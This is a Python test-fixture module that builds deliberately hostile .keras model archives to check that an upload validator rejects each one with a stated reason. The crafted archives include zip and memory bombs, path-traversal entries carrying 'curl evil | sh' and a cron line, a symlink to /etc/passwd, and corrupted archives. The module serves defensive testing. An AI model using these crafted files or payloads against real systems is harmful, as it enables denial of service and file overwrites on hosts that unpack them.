"""Model files built to hurt the worker that validates them, each with the refusal it must get
under the test stacks' settings (``service_environment``: the defaults, but a memory limit of
1 GiB). docs/reliability.md lists them and what each hits.

Each builder takes a valid ``.keras`` file to start from and the path to write; every file
stays under the test stacks' upload cap (256 KB), whatever it declares.
"""

from __future__ import annotations

import gzip
import io
import json
import stat
import warnings
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from featviz_engine.model_validation import HDF5_SIGNATURE
from tests.helpers.model_files import truncated


def _copy_with(
    source: Path, path: Path, replace: dict[str, bytes], add: dict[str, bytes] | None = None
) -> Path:
    """A copy of the archive ``source``, some entries' contents replaced, others added."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as copy:
        for info in original.infolist():
            copy.writestr(info, replace.get(info.filename, original.read(info)))
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # a duplicate name is what some files are made of
            for name, data in (add or {}).items():
                copy.writestr(name, data)
    return path


def dense_bomb(path: Path, units: int) -> Path:
    """A model whose config builds a ``units`` x ``units`` Dense layer (``4 * units**2`` bytes of
    kernel, allocated and initialised as Keras builds it) from a file of a few KB."""
    import keras

    small = path.with_name(f"small-{path.name}")
    features = keras.Input((7,), name="features")
    keras.Model(features, keras.layers.Dense(9, name="huge")(features)).save(small)
    with zipfile.ZipFile(small) as archive:
        config = json.loads(archive.read("config.json"))

    def grow(node: object) -> None:
        if isinstance(node, dict):
            if node.get("units") == 9:
                node["units"] = units
            for value in node.values():
                grow(value)
        elif isinstance(node, list):
            if node == [None, 7]:
                node[1] = units
            for value in node:
                grow(value)

    grow(config)
    _copy_with(small, path, {"config.json": json.dumps(config).encode()})
    small.unlink()
    return path


def zip_bomb(source: Path, path: Path, uncompressed_bytes: int) -> Path:
    """``source`` with its weights replaced by ``uncompressed_bytes`` of zeros, deflated (about
    1000 to 1: 64 MiB take 64 KB)."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as copy:
        for info in original.infolist():
            if info.filename == "model.weights.h5":
                copy.writestr(info.filename, bytes(uncompressed_bytes), zipfile.ZIP_DEFLATED)
            else:
                copy.writestr(info, original.read(info))
    return path


def declaring(source: Path, path: Path, entry: str, declared_bytes: int) -> Path:
    """``source`` whose central directory says ``entry`` uncompresses to ``declared_bytes``: the
    sizes a reader trusts before it reads."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as copy:
        for info in original.infolist():
            copy.writestr(info, original.read(info))
        # The central directory is written from these at close; the data stays as it is.
        (lying,) = [info for info in copy.filelist if info.filename == entry]
        lying.file_size = declared_bytes
    return path


def with_entries(source: Path, path: Path, entries: dict[str, bytes]) -> Path:
    """``source`` with more entries: a name that climbs out, a nested archive, a duplicate..."""
    return _copy_with(source, path, {}, entries)


def inner_zip() -> bytes:
    """A small zip archive, to nest inside another."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("inner.txt", b"an archive inside the archive")
    return buffer.getvalue()


def symbolic_link(path: Path) -> Path:
    """An archive whose config.json is a symbolic link to /etc/passwd."""
    with zipfile.ZipFile(path, "w") as archive:
        link = zipfile.ZipInfo("config.json")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return path


def corrupted(source: Path, path: Path) -> Path:
    """``source`` with one byte of its stored config.json flipped: the CRC no longer matches."""
    data = bytearray(source.read_bytes())
    data[data.index(b'"class_name"')] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def not_a_zip(path: Path) -> Path:
    """A file named .keras that is no archive at all: a legacy HDF5 model, renamed."""
    path.write_bytes(HDF5_SIGNATURE + b"a legacy .h5 model, renamed\n" * 100)
    return path


@dataclass(frozen=True)
class Hostile:
    """A crafted file and the refusal it must get."""

    build: Callable[[Path, Path], Path]
    """(a valid .keras file, where to write) -> the crafted file."""
    reason: str
    """What the rejection's reason must contain."""
    by_archive_checks: bool = True
    """Refused by ``featviz.safe_archive.inspect_zip`` alone."""


MiB = 1024**2

ONE_MORE_ENTRY: dict[str, tuple[str, bytes, str]] = {
    "climbs out with ..": (
        "assets/../../../.bashrc",
        b"curl evil | sh",
        "entry name 'assets/../../../.bashrc' climbs out of the archive with '..'",
    ),
    "absolute name": (
        "/etc/cron.d/evil",
        b"* * * * * evil",
        "entry name '/etc/cron.d/evil' is an absolute path",
    ),
    "drive letter": (
        "C:/Windows/evil.dll",
        b"MZ",
        "entry name 'C:/Windows/evil.dll' is an absolute path",
    ),
    "backslash": ("assets\\..\\evil", b"evil", "holds a backslash"),
    "nested zip": (
        "assets/more.keras",
        inner_zip(),
        "entry 'assets/more.keras' is itself an archive (zip)",
    ),
    "nested gzip": (
        "assets/data.bin",
        gzip.compress(b"x" * 99),
        "entry 'assets/data.bin' is itself an archive (gzip)",
    ),
    "an entry twice": ("config.json", b"{}", "entry 'config.json' appears twice"),
}
"""Valid files with one more entry: (its name, its content, the reason)."""


def _one_more(name: str, data: bytes) -> Callable[[Path, Path], Path]:
    return lambda cnn, path: with_entries(cnn, path, {name: data})


HOSTILE: dict[str, Hostile] = {
    **{
        case: Hostile(_one_more(name, data), reason)
        for case, (name, data, reason) in ONE_MORE_ENTRY.items()
    },
    "memory bomb: Dense 20000 x 20000 (1.6 GB of kernel)": Hostile(
        lambda cnn, path: dense_bomb(path, 20_000),
        "the memory it needs exceeds FEATVIZ_UPLOAD_MEMORY_BYTES (1.0 GiB): "
        "OOM when allocating tensor with shape[20000,20000]",
        by_archive_checks=False,
    ),
    "zip bomb: 64 MiB of zeros in 64 KB": Hostile(
        lambda cnn, path: zip_bomb(cnn, path, 64 * MiB),
        "entry 'model.weights.h5': compression ratio 1029 exceeds "
        "FEATVIZ_UPLOAD_MAX_COMPRESSION_RATIO (100)",
    ),
    "declares 3.1 GB": Hostile(
        lambda cnn, path: declaring(cnn, path, "model.weights.h5", 3_100_000_000),
        "uncompressed size 2.9 GiB exceeds FEATVIZ_MODEL_MAX_UNCOMPRESSED_BYTES (1.0 GiB)",
    ),
    "1001 entries more": Hostile(
        lambda cnn, path: with_entries(cnn, path, {f"assets/{i:04d}": b"" for i in range(1001)}),
        "entry count 1004 exceeds FEATVIZ_MODEL_MAX_ENTRIES (1000)",
    ),
    "symbolic link": Hostile(
        lambda cnn, path: symbolic_link(path), "entry 'config.json' is a symbolic link"
    ),
    "holds more than it declares": Hostile(
        lambda cnn, path: declaring(cnn, path, "config.json", 10),
        "the archive is corrupt: entry 'config.json'",
    ),
    "bad CRC": Hostile(corrupted, "Bad CRC-32 for file 'config.json'"),
    "truncated": Hostile(truncated, "not a zip archive (truncated or corrupt?)"),
    "not a zip": Hostile(
        lambda cnn, path: not_a_zip(path), "not a zip archive (truncated or corrupt?)"
    ),
    "weights not HDF5": Hostile(
        lambda cnn, path: _copy_with(cnn, path, {"model.weights.h5": b"just bytes"}),
        "not a .keras file: its model.weights.h5 is not an HDF5 file",
        by_archive_checks=False,
    ),
}
